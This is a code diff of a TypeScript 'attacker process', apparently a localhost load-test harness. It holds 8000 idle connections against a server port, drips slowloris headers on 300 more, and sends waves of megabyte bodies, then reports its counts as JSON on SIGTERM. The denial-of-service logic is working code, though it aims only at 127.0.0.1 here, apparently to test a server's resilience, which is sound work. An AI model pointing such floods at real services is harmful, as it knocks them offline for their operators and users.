@@ -1,9 +1,16 @@
 /**
- * The attacker process: `attacker.ts PORT FLOOD...`. It floods the port until SIGTERM, and then prints its
- * counts as one line of JSON.
+ * The attacker process: `attacker.ts PORT`. Until SIGTERM it holds 8000 idle connections, drips the headers of 300, and sends 200
+ * bodies of a megabyte each second. Then it prints its counts as one line of JSON.
  */
 import { connect, type Socket } from 'node:net'
-import type { Attack, Flood } from './attack.ts'
+
+export interface Attack {
+  readonly opened: number
+  /** Of those that drip their headers. */
+  readonly closed: number
+  /** Connections that read a reply. */
+  readonly replies: number
+}
 
 const IDLE = 8000
 /** The idle ones come within a second, and each that was closed comes again some seconds later. */
@@ -31,32 +38,23 @@ const BODY_HEADS = [
 ]
 const BODY = Buffer.alloc(LENGTH, 'x')
 
-const [port, ...wanted] = process.argv.slice(2)
-const did: { -readonly [Key in keyof Attack]: Attack[Key] } = { opened: 0, closed: 0, replies: 0 }
+const did = { opened: 0, closed: 0, replies: 0 } satisfies Attack
 
-const floods: Readonly<Record<Flood, () => void>> = {
-  idle: () => {
-    const stay = (): void => void open(() => setTimeout(stay, IDLE_AGAIN_MS))
-    for (let index = 0; index < IDLE; index += 1) setTimeout(stay, index / IDLE_PER_MS)
-  },
-  slowloris: () => {
-    const drip = (): void => {
-      let sent = 0
-      const socket = open(() => {
-        clearInterval(dripping)
-        setTimeout(drip, DRIP_MS)
-      })
-      const dripping = setInterval(() => {
-        socket.write(SLOW_HEAD.charAt(sent))
-        sent += 1
-      }, DRIP_MS)
-    }
-    for (let index = 0; index < SLOW; index += 1) drip()
-  },
-  bodies: () => {
-    wave()
-    setInterval(wave, WAVE_MS)
-  },
+function idle(): void {
+  open(() => setTimeout(idle, IDLE_AGAIN_MS))
+}
+
+function drip(): void {
+  let sent = 0
+  const socket = open(() => {
+    did.closed += 1
+    clearInterval(dripping)
+    setTimeout(drip, DRIP_MS)
+  })
+  const dripping = setInterval(() => {
+    socket.write(SLOW_HEAD.charAt(sent))
+    sent += 1
+  }, DRIP_MS)
 }
 
 function wave(): void {
@@ -68,20 +66,20 @@ function wave(): void {
 }
 
 function open(onClose: () => void): Socket {
-  const socket = connect({ port: Number(port), host: '127.0.0.1' })
+  const socket = connect({ port: Number(process.argv[2]), host: '127.0.0.1' })
   did.opened += 1
   socket.once('data', () => (did.replies += 1))
   // A reset is a way of closing, and the attacker's lot.
   socket.on('error', () => {})
   socket.on('end', () => socket.destroy())
-  socket.on('close', () => {
-    did.closed += 1
-    onClose()
-  })
+  socket.on('close', onClose)
   return socket
 }
 
 process.once('SIGTERM', () =>
   process.stdout.write(`${JSON.stringify(did)}\n`, () => process.exit()),
 )
-for (const [flood, begin] of Object.entries(floods)) if (wanted.includes(flood)) begin()
+for (let index = 0; index < IDLE; index += 1) setTimeout(idle, index / IDLE_PER_MS)
+for (let index = 0; index < SLOW; index += 1) drip()
+wave()
+setInterval(wave, WAVE_MS)
